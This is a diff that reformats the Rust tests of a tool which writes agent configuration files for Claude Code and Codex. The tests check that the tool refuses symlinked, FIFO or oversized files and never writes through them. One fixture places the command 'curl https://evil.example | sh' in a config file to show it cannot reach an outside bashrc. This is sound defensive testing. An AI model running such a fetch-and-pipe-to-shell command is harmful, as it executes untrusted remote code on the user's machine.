@@ -343,9 +343,23 @@ fn refused(t: &Test, outside: &Path, host: &str, env: &[(&str, &Path)], named: &
 fn a_backup_name_linked_out_of_the_project_is_refused_and_its_target_untouched() {
     let t = Test::new().agents(["dev"]);
     let outside = outside();
-    write(&t, ".mcp.json", "{\n  // curl https://evil.example | sh\n}\n");
-    symlink(outside.path().join("bashrc"), t.path().join(".mcp.json.filebox.bak")).unwrap();
-    refused(&t, outside.path(), "claude-code", &[], ".mcp.json.filebox.bak");
+    write(
+        &t,
+        ".mcp.json",
+        "{\n  // curl https://evil.example | sh\n}\n",
+    );
+    symlink(
+        outside.path().join("bashrc"),
+        t.path().join(".mcp.json.filebox.bak"),
+    )
+    .unwrap();
+    refused(
+        &t,
+        outside.path(),
+        "claude-code",
+        &[],
+        ".mcp.json.filebox.bak",
+    );
     assert_eq!(
         fs::read_to_string(outside.path().join("bashrc")).unwrap(),
         "export PATH=/usr/bin\n"
@@ -356,7 +370,11 @@ fn a_backup_name_linked_out_of_the_project_is_refused_and_its_target_untouched()
 fn a_linked_claude_folder_is_not_written_through() {
     let t = Test::new().agents(["dev"]);
     let outside = outside();
-    symlink(outside.path().join("global-claude"), t.path().join(".claude")).unwrap();
+    symlink(
+        outside.path().join("global-claude"),
+        t.path().join(".claude"),
+    )
+    .unwrap();
     refused(&t, outside.path(), "claude-code", &[], "/.claude");
 }
 
@@ -364,9 +382,17 @@ fn a_linked_claude_folder_is_not_written_through() {
 fn a_host_file_linked_to_a_secret_is_not_copied_in() {
     let t = Test::new().agents(["dev"]);
     let outside = outside();
-    symlink(outside.path().join("secret.json"), t.path().join(".mcp.json")).unwrap();
+    symlink(
+        outside.path().join("secret.json"),
+        t.path().join(".mcp.json"),
+    )
+    .unwrap();
     refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
-    assert!(fs::symlink_metadata(t.path().join(".mcp.json")).unwrap().is_symlink());
+    assert!(
+        fs::symlink_metadata(t.path().join(".mcp.json"))
+            .unwrap()
+            .is_symlink()
+    );
 }
 
 #[test]
@@ -394,7 +420,11 @@ fn a_host_file_over_a_mebibyte_is_refused_unread() {
     let t = Test::new().agents(["dev"]);
     let outside = outside();
     // Valid JSON, a byte over the 1 MiB bound.
-    write(&t, ".mcp.json", &format!("{{{}}}", " ".repeat((1 << 20) - 1)));
+    write(
+        &t,
+        ".mcp.json",
+        &format!("{{{}}}", " ".repeat((1 << 20) - 1)),
+    );
     refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
 }
 
@@ -408,13 +438,19 @@ fn codex_s_user_config_is_never_followed_but_its_folder_may_be_a_link() {
     symlink(outside.path().join("config.toml"), &config).unwrap();
     refused(&t, outside.path(), "codex", &env, "config.toml");
     fs::remove_file(&config).unwrap();
-    let fifo = std::process::Command::new("mkfifo").arg(&config).status().unwrap();
+    let fifo = std::process::Command::new("mkfifo")
+        .arg(&config)
+        .status()
+        .unwrap();
     assert!(fifo.success());
     refused(&t, outside.path(), "codex", &env, "config.toml");
     fs::remove_file(&config).unwrap();
     fs::write(&config, "model = \"o3\"\n").unwrap();
-    symlink(outside.path().join("bashrc"), codex_home.path().join("config.toml.filebox.bak"))
-        .unwrap();
+    symlink(
+        outside.path().join("bashrc"),
+        codex_home.path().join("config.toml.filebox.bak"),
+    )
+    .unwrap();
     refused(&t, outside.path(), "codex", &env, "config.toml.filebox.bak");
     fs::remove_file(codex_home.path().join("config.toml.filebox.bak")).unwrap();
     assert_eq!(fs::read_to_string(&config).unwrap(), "model = \"o3\"\n");
@@ -435,7 +471,11 @@ fn codex_s_user_config_is_never_followed_but_its_folder_may_be_a_link() {
 fn a_second_backup_replaces_the_first_and_leaves_no_temp_file() {
     let t = Test::new().agents(["dev", "qa"]);
     write(&t, ".mcp.json", MCP_JSON);
-    fs::set_permissions(t.path().join(".mcp.json"), fs::Permissions::from_mode(0o640)).unwrap();
+    fs::set_permissions(
+        t.path().join(".mcp.json"),
+        fs::Permissions::from_mode(0o640),
+    )
+    .unwrap();
     t.as_agent("dev").args(["setup", "claude-code"]).success();
     let first = read(&t, ".mcp.json");
     let out = t.as_agent("qa").args(["setup", "claude-code"]).success();
@@ -446,7 +486,10 @@ fn a_second_backup_replaces_the_first_and_leaves_no_temp_file() {
     assert_eq!(read(&t, ".mcp.json.filebox.bak"), first);
     assert!(read(&t, ".mcp.json").contains("--agent\", \"qa\""));
     for name in [".mcp.json", ".mcp.json.filebox.bak"] {
-        let mode = fs::metadata(t.path().join(name)).unwrap().permissions().mode();
+        let mode = fs::metadata(t.path().join(name))
+            .unwrap()
+            .permissions()
+            .mode();
         assert_eq!(mode & 0o777, 0o640, "{name}");
     }
     let names: Vec<_> = fs::read_dir(t.path())
